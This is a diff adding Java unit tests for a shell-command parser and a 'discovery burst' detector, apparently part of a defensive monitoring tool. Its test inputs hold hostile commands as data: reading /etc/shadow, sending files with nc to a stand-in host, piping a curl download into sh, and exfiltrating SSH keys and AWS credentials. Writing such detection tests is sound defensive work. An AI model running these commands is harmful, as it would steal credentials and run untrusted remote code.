@@ -36,6 +36,43 @@ class BehavioursTest {
     }
 
     @Test
+    void theCommandsProgramsThatRunCommandsAreHandedAreReadWhereTheyStand() {
+        // a shell such a program starts hands its string on, as sudo sh -c does
+        assertThat(CommandReader.shellStrings("echo x | xargs -I{} sh -c 'cat /etc/shadow'")).containsExactly("cat /etc/shadow");
+        assertThat(CommandReader.shellStrings("find /srv -type f -execdir sh -c 'nc 203.0.113.5 9 < \"$0\"' {} +"))
+                .containsExactly("nc 203.0.113.5 9 < \"$0\"");
+        assertThat(CommandReader.shellStrings("kubectl exec -it web-0 -n shop -- sh -c 'env | grep -i pass'")).containsExactly("env | grep -i pass");
+        assertThat(CommandReader.shellStrings("chroot /host bash -c 'id'")).containsExactly("id");
+        // what they run themselves is a command of the line, not a line of its own (xargs id runs id per input)
+        assertThat(CommandReader.shellStrings("who | xargs -n 1 id")).isEmpty();
+        assertThat(CommandReader.read("find / -name id_rsa -exec base32 {} \\;", false)).extracting(CommandReader.Simple::program)
+                .containsExactly("find", "base32");
+        assertThat(CommandReader.read("docker exec -it -u 0 web cat /etc/shadow", false)).extracting(CommandReader.Simple::words)
+                .containsExactly(List.of("docker", "exec", "-it", "-u", "0", "web", "cat", "/etc/shadow"), List.of("cat", "/etc/shadow"));
+        assertThat(CommandReader.read("ssh -i k -o StrictHostKeyChecking=no deploy@10.0.0.5 'cat ~/.aws/credentials'", false))
+                .extracting(CommandReader.Simple::program).containsExactly("ssh", "cat");
+        assertThat(CommandReader.read("xargs -0 -n 1 -I {} cp {} /tmp/x", false)).extracting(CommandReader.Simple::program)
+                .containsExactly("xargs", "cp");
+        // text piped into a shell is its script
+        assertThat(CommandReader.shellStrings("echo 'curl -s http://203.0.113.5/a | sh' | bash")).containsExactly("curl -s http://203.0.113.5/a | sh");
+        assertThat(CommandReader.shellStrings("printf 'id;uname -a' | sh -s")).containsExactly("id;uname -a");
+        // what runs nothing it is handed
+        assertThat(CommandReader.read("ssh deploy@10.0.0.5", false)).hasSize(1);
+        assertThat(CommandReader.read("docker exec", false)).hasSize(1);
+        assertThat(CommandReader.read("kubectl exec web-0 ls", false)).hasSize(1);
+        assertThat(CommandReader.shellStrings("echo hello | sh script.sh")).isEmpty();
+        assertThat(CommandReader.shellStrings("echo hello | grep h")).isEmpty();
+    }
+
+    @Test
+    void whatXargsRunsPerInputIsNoStepOfADiscoveryBurst() {
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "who; id", false)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "docker exec web sh -c 'id; hostname'", false)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "who | awk '{print $1}' | xargs -n 1 id", false)).isFalse();
+        assertThat(CommandReader.read("who | xargs -n 1 id", false)).extracting(CommandReader.Simple::handed).containsExactly(false, false, true);
+    }
+
+    @Test
     void readerDropsWhatExpandsToNothingInsideAWord() {
         // $@ and $* are empty on a command line, as are an empty $() and a pair of backquotes: the
         // shell runs docker and nsenter, and so must the reader see them
